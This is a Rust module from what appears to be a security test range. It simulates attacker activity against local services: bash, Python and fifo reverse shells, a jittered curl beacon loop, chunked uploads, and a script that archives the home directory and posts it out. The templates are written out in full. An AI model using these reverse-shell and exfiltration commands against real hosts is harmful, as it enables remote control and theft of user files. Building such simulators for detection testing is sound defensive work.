//! Reverse shells, beacons and uploads.

use std::io;
use std::net::SocketAddr;

use rand::RngExt as _;
use rand::seq::{IndexedRandom as _, SliceRandom as _};

use super::{BeaconStyle, ShellStyle, UploadStyle};
use crate::range::activity::{Launch, OWN_PORT, OWN_SERVICE, OwnService, Prepared, Program, Stage};
use crate::range::helper::{HelperPlan, HttpRequest, NetStep};

/// What the far end of a reverse shell asks for. Everything only reads and prints.
const SHELL_COMMANDS: [&str; 12] = [
    "id",
    "pwd",
    "ls -la",
    "uname -a",
    "ps | head -n 5",
    "cat /etc/hostname",
    "df -k .",
    "ls /tmp",
    "echo $PATH",
    "whoami",
    "head -n 3 /etc/passwd",
    "date",
];

pub(super) fn reverse_shell(
    stage: &mut Stage<'_>,
    style: ShellStyle,
    commands: usize,
    pause_ms: u64,
) -> io::Result<Prepared> {
    let ready = stage.scaffold("port");
    let mut sent: Vec<String> = SHELL_COMMANDS.iter().map(|command| (*command).to_owned()).collect();
    sent.shuffle(&mut stage.rng);
    sent.truncate(commands);
    let operator = HelperPlan::ShellOperator { ready: ready.clone(), commands: sent, pause_ms };
    let directory = stage.folders.tmp.clone();
    let launch = match (style, &stage.tools.bash, &stage.tools.python) {
        (ShellStyle::Bash, Some(bash), _) => {
            let script = format!("exec 5<>/dev/tcp/127.0.0.1/{OWN_PORT}; sh <&5 >&5 2>&5");
            let program =
                Program::Command { path: bash.clone(), arguments: vec!["-c".to_owned(), script], input: None };
            Launch { program, directory, record: None }
        }
        (ShellStyle::Python, _, Some(python)) => {
            let code = format!(
                "import socket, subprocess\ns = socket.create_connection(('127.0.0.1', {OWN_PORT}))\n\
                 subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n"
            );
            let program =
                Program::Command { path: python.clone(), arguments: vec!["-c".to_owned(), code], input: None };
            Launch { program, directory, record: None }
        }
        (ShellStyle::Fifo, ..) => {
            let folder = stage.folder_in(&directory)?;
            let record = stage.scaffold("connections");
            let relay = HelperPlan::Relay { address: OWN_SERVICE, record: record.clone() };
            let arguments = stage.tool_arguments(OWN_SERVICE).join(" ");
            let script = format!("mkfifo f\ncat f | sh 2>&1 | @TOOL0@ {arguments} > f\nrm -f f\n");
            let tools = vec![(stage.tool_name(), relay)];
            Launch {
                program: Program::Script { path: folder.join("x.sh"), script, tools },
                directory: folder,
                record: Some(record),
            }
        }
        _ => {
            let record = stage.scaffold("connections");
            let plan = HelperPlan::ShellClient { address: OWN_SERVICE, record: record.clone() };
            let arguments = stage.tool_arguments(OWN_SERVICE);
            Launch {
                program: Program::Helper { name: stage.tool_name(), arguments, plan },
                directory,
                record: Some(record),
            }
        }
    };
    Ok(Prepared { service: Some(OwnService { plan: operator, ready, late_by_ms: None }), ..Prepared::root(launch) })
}

pub(super) fn beacon(
    stage: &mut Stage<'_>,
    style: BeaconStyle,
    calls: usize,
    interval_ms: u64,
    jitter: f64,
    bytes: usize,
) -> Prepared {
    let address = stage.any_http();
    let pauses: Vec<u64> =
        (0..calls).map(|_| (interval_ms as f64 * (1.0 + jitter * stage.rng.random_range(-1.0..1.0))) as u64).collect();
    if let (BeaconStyle::ShellLoop, Some(curl)) = (style, &stage.tools.curl) {
        let list: Vec<String> = pauses.iter().map(|ms| format!("{:.2}", *ms as f64 / 1000.0)).collect();
        let script = format!(
            "for t in {}; do {} -s -o /dev/null 'http://{address}/blob/{bytes}?i={}'; sleep $t; done",
            list.join(" "),
            curl.display(),
            stage.number
        );
        let directory = stage.folders.tmp.clone();
        return Prepared::root(Launch { program: Program::Shell { script }, directory, record: None });
    }
    let request = if style == BeaconStyle::Post { HttpRequest::post(bytes) } else { HttpRequest::get(bytes) };
    let mut steps = Vec::new();
    for ms in pauses {
        steps.push(NetStep::Http { address, requests: vec![request.clone()], gap_ms: 0 });
        steps.push(NetStep::Pause { ms });
    }
    Prepared::root(stage.tool(address, steps))
}

pub(super) fn upload(stage: &mut Stage<'_>, style: UploadStyle, bytes: usize) -> io::Result<Prepared> {
    let address = stage.any_http();
    let post = |bytes: usize| NetStep::Http { address, requests: vec![HttpRequest::post(bytes)], gap_ms: 0 };
    let steps = match style {
        UploadStyle::Packed => return packed(stage, address, bytes),
        UploadStyle::Post => vec![post(bytes)],
        UploadStyle::Chunked => {
            let chunks = stage.rng.random_range(6..16);
            let pause = stage.rng.random_range(20..150);
            (0..chunks).flat_map(|_| [post(bytes / chunks), NetStep::Pause { ms: pause }]).collect()
        }
        UploadStyle::Raw => vec![NetStep::Send { address, bytes, chunk_bytes: 64 << 10, gap_ms: 2 }],
    };
    Ok(Prepared::root(stage.tool(address, steps)))
}

fn packed(stage: &mut Stage<'_>, address: SocketAddr, bytes: usize) -> io::Result<Prepared> {
    let tmp = stage.folders.tmp.clone();
    let folder = stage.folder_in(&tmp)?;
    let record = stage.scaffold("connections");
    let steps = vec![NetStep::Http { address, requests: vec![HttpRequest::post(bytes)], gap_ms: 0 }];
    let tools = vec![(stage.tool_name(), HelperPlan::Client { steps, record: record.clone() })];
    let arguments = stage.tool_arguments(address).join(" ");
    let name = [".d", "all.tar", "out", ".cache.tar"].choose(&mut stage.rng).copied().unwrap_or("out");
    let script = format!(
        "tar cf {name} -C {home} .\ngzip -f {name}\n@TOOL0@ {arguments}\nrm -f {name}.gz\n",
        home = stage.folders.home.display()
    );
    let program = Program::Script { path: folder.join(".u"), script, tools };
    Ok(Prepared::root(Launch { program, directory: folder, record: Some(record) }))
}
